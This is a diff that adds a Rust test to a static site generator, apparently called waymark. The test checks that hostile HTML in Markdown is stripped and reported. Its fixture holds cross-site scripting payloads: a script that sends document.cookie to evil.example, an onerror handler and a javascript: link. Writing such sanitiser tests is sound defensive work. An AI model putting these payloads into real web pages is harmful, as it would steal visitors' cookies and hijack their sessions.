@@ -220,3 +220,25 @@ fn check_writes_nothing() {
     assert!(!site.path().join("output").exists());
     let _ = Path::new(".");
 }
+
+#[test]
+fn hostile_html_is_neutralised_and_reported() {
+    let site = site_copy("mini");
+    std::fs::write(
+        site.path().join("content/pages/about.md"),
+        "+++\ntitle = \"About\"\n+++\nHello.\n\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n\n<img src=\"https://tracker.example/p.gif\" onerror=\"alert(1)\">\n\n[click](javascript:alert(1)) and [ok](https://example.org/)\n",
+    )
+    .unwrap();
+    let out = site.path().join("o");
+    let r = waymark(&["build", "--root", site.path().to_str().unwrap(), "--output", out.to_str().unwrap()]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stderr.contains("content/pages/about.md:6:1: warning: raw HTML with a <script> element was removed"), "{}", r.stderr);
+    assert!(r.stderr.contains("content/pages/about.md:8:1: warning: raw HTML with"), "{}", r.stderr);
+    assert!(r.stderr.contains("content/pages/about.md:10:9: warning: link with a 'javascript:' URL was removed"), "{}", r.stderr);
+    let html = read(&out, "en/pages/about.html");
+    for bad in ["<script>fetch", "evil.example", "tracker.example", "onerror", "javascript:"] {
+        assert!(!html.contains(bad), "{bad} survived");
+    }
+    assert!(html.contains("<a href=\"https://example.org/\" rel=\"noopener noreferrer\">ok</a>"), "external link rel");
+    assert!(html.contains("http-equiv=\"Content-Security-Policy\""));
+}
